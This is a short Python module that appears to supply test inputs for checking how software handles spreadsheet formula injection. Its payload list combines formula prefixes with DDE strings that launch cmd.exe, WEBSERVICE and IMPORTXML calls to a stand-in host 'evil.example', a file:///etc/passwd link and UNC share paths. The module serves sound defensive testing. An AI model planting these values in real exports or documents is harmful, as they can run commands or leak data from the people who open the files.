"""Texts that an office program might take for a formula, a link or a field."""

from __future__ import annotations

_CORES = (
    "1+1", "SUM(A1:A9)", "cmd|'/c calc'!A1", 'HYPERLINK("http://evil.example","x")',
    'DDE("cmd";"/c calc";"x")', 'IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")',
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")

PAYLOADS = (
    *(start + core for start in _STARTS for core in _CORES),
    *(f"{space}=1+1" for space in (" ", "\t", "\r", "\n", "\u3000", "\xa0", "\0")),
    "{=1}", "=", "+", "-", "@", "=-1", "%=1", "'=1", '"=1', "=1;=2", "=A1\n=A2",
    "http://evil.example", "https://evil.example/=1", "mailto:a@evil.example", "ftp://evil.example",
    "file:///etc/passwd", "internal:Sheet1!A1", "external:\\\\evil\\share\\x.xlsx", "\\\\evil\\share",
    "DDEAUTO c:\\\\windows\\\\cmd.exe", "MSEXCEL|'\\..\\..\\cmd.exe'!''", "{ DDE cmd }", "{ HYPERLINK evil }",
    "_xlfn.SINGLE(A1)", "#REF!", "TRUE", "1E5",
)  # fmt: skip
